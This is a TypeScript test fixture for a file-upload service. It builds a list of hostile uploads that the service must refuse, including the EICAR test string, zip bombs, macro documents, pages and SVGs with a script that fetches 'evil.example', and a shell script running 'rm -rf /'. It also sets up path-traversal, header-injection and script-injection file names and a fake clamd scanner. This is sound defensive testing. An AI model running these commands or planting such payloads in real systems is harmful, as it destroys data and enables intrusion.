import { createServer, type Server } from "node:net";
import type { Given } from "../server/src/testing/uploadForm.ts";
import { docx, zip } from "../server/src/testing/zipFile.ts";

const MB = 1024 * 1024;
/** In two parts, so that no scanner takes this source for the test virus. */
const EICAR = `X5O!P%@AP[4\\PZX54(P^)7CC)7}$${"EICAR-STANDARD-ANTIVIRUS-TEST-FILE"}!$H+H*`;
const SCRIPT = '<script>fetch("//evil.example")</script>';

/** The head of a PNG that claims this size. */
function png(width: number, height: number): Buffer {
  const head = Buffer.alloc(33);
  head.write("\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR", "latin1");
  head.writeUInt32BE(width, 16);
  head.writeUInt32BE(height, 20);
  head.writeUInt8(8, 24);
  return head;
}

export const pdf = (inside = "") =>
  Buffer.from(`%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\n${inside}\ntrailer<</Root 1 0 R>>\n%%EOF\n`);

export type HostileFile = [what: string, content: Buffer, given: Given];
/** Files that must be refused; the bombs are some hundred kilobytes long and unpack to hundreds of megabytes. */
export const hostileFilesOf = (): HostileFile[] => [
  ["the test virus", Buffer.from(EICAR), { name: "hours.txt" }],
  ["a zip bomb as docx", docx({ "word/media/a.bin": Buffer.alloc(400 * MB) }), { name: "a.docx" }],
  [
    "a zip of 30,000 entries",
    zip(Object.fromEntries(Array.from({ length: 30_000 }, (_, n) => [`word/${n}`, Buffer.alloc(1)]))),
    { name: "a.docx" },
  ],
  ["an archive", zip({ a: Buffer.from("a") }), { name: "a.zip" }],
  ["an archive as docx", zip({ a: Buffer.from("a") }), { name: "a.docx" }],
  ["macros", docx({ "word/vbaProject.bin": Buffer.from("x") }), { name: "a.docx" }],
  ["a page", Buffer.from(`<!doctype html>${SCRIPT}`), { name: "a.html", type: "text/html" }],
  ["a page as text", Buffer.from(`<html>${SCRIPT}`), { name: "a.txt" }],
  ["a page as PDF", Buffer.from(`<html>${SCRIPT}%PDF-1.4`), { name: "a.pdf" }],
  ["an SVG with a script", Buffer.from(`<svg>${SCRIPT}</svg>`), { name: "a.svg", type: "image/svg+xml" }],
  ["an SVG as PNG", Buffer.from(`<svg>${SCRIPT}</svg>`), { name: "a.png" }],
  ["a program as text", Buffer.from("MZ\x90\0"), { name: "a.txt" }],
  ["a program in UTF-16", Buffer.from("\ufeffMZ program", "utf16le"), { name: "a.txt" }],
  ["a script as text", Buffer.from("#!/bin/sh\nrm -rf /"), { name: "a.txt" }],
  ["a double extension", pdf(), { name: "a.pdf.exe" }],
  ["a reversed name", pdf(), { name: "a\u202efdp.exe" }],
  ["50,000 × 50,000 pixels", png(50_000, 50_000), { name: "a.png" }],
  ["nothing", Buffer.alloc(0), { name: "a.pdf" }],
  ["26 MB of PDF", Buffer.concat([pdf(), Buffer.alloc(26 * MB)]), { name: "a.pdf" }],
];

export const NAMES = [
  "../../../../tmp/evil.pdf",
  "..\\..\\evil.pdf",
  "/etc/passwd.pdf",
  "a\u202egpj.pdf",
  "con.pdf",
  `${"x".repeat(3000)}.pdf`,
  "a%2f..%2fb.pdf",
  "<script>alert(1)</script>.pdf",
  "a%0d%0aSet-Cookie: x=y.pdf",
];

/** A scanner that speaks clamd's INSTREAM and knows one virus. */
export async function startScanner(): Promise<{ url: string; server: Server }> {
  const server = createServer((socket) => {
    let received = Buffer.alloc(0);
    socket.on("error", () => undefined);
    socket.on("data", (part: Buffer) => {
      received = Buffer.concat([received.subarray(-200_000), part]);
      if (received.subarray(0, 6).toString() === "zPING\0") socket.end("PONG\0");
      else if (received.subarray(-4).equals(Buffer.alloc(4)))
        socket.end(received.includes(EICAR) ? "stream: Eicar-Test-Signature FOUND\0" : "stream: OK\0");
    });
  });
  await new Promise<void>((open) => server.listen(0, "127.0.0.1", open));
  const address = server.address();
  return { url: `tcp://127.0.0.1:${typeof address === "object" ? address?.port : 0}`, server };
}
